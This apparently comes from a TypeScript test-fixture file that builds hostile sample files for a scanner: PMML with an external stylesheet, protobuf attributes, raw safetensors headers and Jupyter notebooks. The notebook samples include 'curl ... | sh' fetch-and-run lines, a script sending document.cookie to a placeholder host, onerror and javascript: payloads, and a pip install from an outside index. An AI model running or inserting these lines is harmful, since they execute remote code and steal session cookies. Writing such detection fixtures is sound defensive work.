  'PMML stylesheet': [
    'm.pmml',
    '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://x.invalid/x.xsl"?><PMML version="4.4"/>',
  ],
});

function attr(name: string, value: string): Buffer {
  const field = (at: number, bytes: Uint8Array): Buffer =>
    Buffer.concat([Buffer.from([(at << 3) | 2, bytes.length]), bytes]);
  const text = Buffer.from(value);
  const inner = name === 'debug_urls' ? field(1, field(2, text)) : field(2, text);
  return field(5, Buffer.concat([field(1, Buffer.from(name)), field(2, inner)]));
}

function rawSafetensors(header: string, data: number): Buffer {
  const size = Buffer.alloc(8);
  size.writeBigUInt64LE(BigInt(Buffer.byteLength(header)));
  return Buffer.concat([size, Buffer.from(header), Buffer.alloc(data)]);
}

const notebooks = family('third round: notebooks', {
  'magic of a shell': ['a.ipynb', notebook('%%bash\ncurl https://x.invalid/a | sh')],
  'exclamation in Python': ['a.ipynb', notebook('x = !curl -s https://x.invalid/a | sh')],
  'output that acts': [
    'a.ipynb',
    notebook({ code: '1', shows: { 'text/html': '<img src=x onerror="fetch(\'https://x.invalid\')">' } }),
  ],
  'output with JavaScript': [
    'a.ipynb',
    notebook({ code: '1', shows: { 'application/javascript': 'fetch("https://x.invalid/"+document.cookie)' } }),
  ],
  'hidden in markdown': ['a.ipynb', notebook('#md <iframe src="javascript:fetch(\'https://x.invalid\')"></iframe>')],
  'pip from elsewhere': ['a.ipynb', notebook('!pip install --index-url https://x.invalid/simple evil')],
});

export const thirdRound: readonly Sample[] = [...python, ...configurations, ...binaries, ...notebooks];
